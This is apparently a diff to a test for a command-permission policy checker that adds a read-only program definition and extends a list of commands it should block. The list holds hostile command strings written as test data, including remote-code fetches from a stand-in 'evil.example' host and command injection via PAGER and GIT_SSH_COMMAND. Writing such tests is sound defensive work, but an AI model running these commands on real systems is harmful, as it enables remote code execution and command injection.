@@ -19,6 +19,7 @@ allow contains {"reason": "all", "covers": ["unknown"]} if {
 	input.effect.kind in {"run", "unknown", "connect", "read", "write", "delete", "state"}
 }
 `)
+	w.write(".config/permd/policy.d/programs/mine.yaml", "programs:\n  - names: [mytool]\n    does: [\"looks\"]\n    readonly: true\n    operands: [\"text...\"]\n")
 	w.write("etc/policy.d/rules.yaml", "allow:\n  run: [orgtool x, npx orgs *, python ok.py]\n")
 	w.write("project/package.json", `{"scripts": {"frob": "frob", "test": "frob"}}`)
 	w.write("project/Makefile", "check:\n\tfrob\n")
@@ -28,7 +29,7 @@ allow contains {"reason": "all", "covers": ["unknown"]} if {
 		"go run github.com/evil/x@latest", "docker run frob", "podman create frob", "sh ./tool.sh", "bash tool.sh", ". ./tool.sh", "source ./tool.sh", "python x.py", "python -m frob",
 		"node x.js", "java -jar x.jar", "deno run x.ts", "bun x.ts", "uv run x.py", "cargo frob", "gh frob", "kubectl frob", "docker frob",
 		"PATH=. ls", "PATH=/x:$PATH ls", "PATH+=:. ls", "PAGER=frob git log", "PAGER=sh git log", "PAGER='less; frob' git log", "GIT_SSH_COMMAND=frob git fetch", "GIT_SSH_COMMAND='ssh -oProxyCommand=frob' git fetch",
-		"npx frob@1", "npx tsc@5", "npx git@1", "npx eslint@npm:frob@1", "npx eslint@file:../x", "npx eslint@github:evil/x", "npx eslint@evil/x", "npx eslint@https://evil.example/x", "npx eslint@../x", "npx eslint@.", "npx eslint@x.tgz", "npx 'eslint@>=1'",
+		"npx mytool x", "mytool x", "uvx mytool x", "npx frob@1", "npx tsc@5", "npx git@1", "npx eslint@npm:frob@1", "npx eslint@file:../x", "npx eslint@github:evil/x", "npx eslint@evil/x", "npx eslint@https://evil.example/x", "npx eslint@../x", "npx eslint@.", "npx eslint@x.tgz", "npx 'eslint@>=1'",
 		"npx eslint@", "npx @evil/eslint@9", "npx -p frob eslint@9", "npm create eslint@9", "npm init eslint@9", "uvx frob@1", "uvx --from frob ruff@1", "uvx ruff@git+https://evil.example/x", "bunx frob@1", "go run eslint@9",
 		"python -m http", "python -m frob.server", "python -m pdb x.py", "python -m cProfile x.py", "python -m timeit x", "python -m runpy", "python -m eslint", "npx http.server@1", "python -m black@1",
 		"env PAGER=frob git log", "export PATH=.; ls", "EDITOR=frob; git commit", "make SHELL=frob", "make CC:=frob", "bash -c 'sh x.sh'", "timeout 5 npx frob",
